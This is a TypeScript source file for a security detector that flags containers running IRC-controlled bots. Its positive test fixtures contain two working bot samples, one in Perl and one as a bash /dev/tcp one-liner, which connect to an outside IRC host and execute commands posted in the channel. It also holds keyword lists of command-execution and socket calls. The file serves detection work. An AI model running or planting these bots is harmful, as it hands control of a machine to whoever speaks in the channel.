import type { Language, Stage } from '../trace/story.ts';
import { render } from '../trace/value.ts';
import type { Detector, Scene } from './detector.ts';
import { findingOf, sightingOf } from './sighting.ts';

/** A program that takes orders from a chat room. */
export const ircBot: Detector = {
  id: 'irc-bot',
  version: 1,
  title: 'Takes orders from an IRC channel.',
  attack: ['T1071', 'T1059', 'T1498'],
  description: `
Old and still common: a script logs in to an IRC server, joins a channel, and runs what is written there. It shows in one piece of
code that speaks the protocol (\`NICK\`, \`JOIN\`, \`PRIVMSG\`), opens a connection, and runs commands. *Malicious* when the image
starts it; *suspicious* when it only lies there. A bot that answers questions and runs nothing is not meant.
`,
  fires: [
    {
      name: 'in Perl',
      image: {
        cmd: ['perl', '/tmp/b.pl'],
        files: {
          '/tmp/b.pl': [
            'use IO::Socket;',
            'my $s = IO::Socket::INET->new(PeerAddr=>"203.0.113.9",PeerPort=>6667);',
            'print $s "NICK b$$\\r\\nUSER b 0 * :b\\r\\n";',
            'while (<$s>) { print $s "JOIN #c\\r\\n" if /001/; if (/PRIVMSG #c :!x (.*)/) { my $o = `$1`; print $s "PRIVMSG #c :$o\\r\\n"; } }',
          ].join('\n'),
        },
      },
    },
    {
      name: 'in shell',
      image: {
        cmd: [
          'bash',
          '-c',
          'exec 3<>/dev/tcp/203.0.113.9/6667; echo "NICK b" >&3; echo "USER b 0 * :b" >&3; echo "JOIN #c" >&3; while read -r l <&3; do c=${l##*!x }; o=$(eval "$c"); echo "PRIVMSG #c :$o" >&3; done',
        ],
      },
    },
  ],
  silent: [
    {
      name: 'a notification',
      image: {
        cmd: [
          'sh',
          '-c',
          '(echo "NICK b"; echo "USER b 0 * :b"; echo "JOIN #builds"; echo "PRIVMSG #builds :done"; echo QUIT) | nc irc.example 6667',
        ],
      },
    },
    { name: 'a client', image: { cmd: ['irssi', '-c', 'irc.example'] } },
  ],
  detect(scene) {
    return scene.story.stages.flatMap((stage) => {
      if (!languages.has(stage.language) || !speaksIrc(stage.text) || !runsOrders(stage)) return [];
      if (!connects(scene, stage)) return [];
      const sighting = sightingOf(scene, { stage: stage.id, line: lineOfWord(stage.text, 'PRIVMSG') });
      const floods = /\b(udp|tcp|syn|http)\s{0,2}flood|@portscan|!udp|\bflood\b/i.test(
        stage.text.slice(0, maximumText),
      );
      return findingOf(scene, sighting, {
        threat: 'hostile',
        title: `Takes orders from an IRC channel${floods ? ', floods among them' : ''}`,
        because: 'Whoever speaks in the channel commands the container.',
      });
    });
  },
};

const languages: ReadonlySet<Language> = new Set<Language>([
  'shell',
  'perl',
  'python',
  'php',
  'ruby',
  'javascript',
  'lua',
  'powershell',
  'unknown',
]);
const maximumText = 400_000;

function speaksIrc(text: string): boolean {
  const part = text.slice(0, maximumText);
  return part.includes('PRIVMSG') && part.includes('JOIN') && (part.includes('NICK') || part.includes('nick'));
}

/** Runs text that is not known beforehand, in the words of its language. */
function runsOrders(stage: Stage): boolean {
  const text = stage.text.slice(0, maximumText);
  return runners[stage.language]?.some((word) => text.includes(word)) ?? false;
}

const runners: Partial<Record<Language, readonly string[]>> = {
  shell: ['eval ', 'bash -c', 'sh -c', '`$', '$($', '| sh', '| bash', '|sh', '|bash'],
  perl: ['`$', '`@', 'system(', 'system ', 'exec(', 'qx', 'open(', 'eval '],
  python: ['os.system', 'os.popen', 'subprocess', 'exec(', 'eval('],
  php: ['shell_exec', 'passthru', 'system(', 'exec(', 'eval(', 'popen('],
  ruby: ['`#{', 'system(', 'IO.popen', '%x', 'eval('],
  javascript: ['child_process', 'eval(', 'execSync', 'Function('],
  lua: ['os.execute', 'io.popen', 'loadstring'],
  powershell: ['Invoke-Expression', 'iex '],
  unknown: ['system(', 'popen(', 'execl('],
};

function connects(scene: Scene, stage: Stage): boolean {
  const effect = scene.story.effects.some(
    (each) => each.stage === stage.id && each.kind === 'connect' && render(each.to.host) !== '',
  );
  return (
    effect ||
    [
      'IO::Socket',
      'fsockopen',
      'socket.socket',
      'TCPSocket',
      'net.connect',
      'net.Socket',
      'socket.connect',
      'TcpClient',
      '/dev/tcp/',
    ].some((word) => stage.text.includes(word))
  );
}

function lineOfWord(text: string, word: string): number {
  const at = text.indexOf(word);
  return at < 0 ? 1 : text.slice(0, Math.min(at, maximumText)).split('\n').length;
}
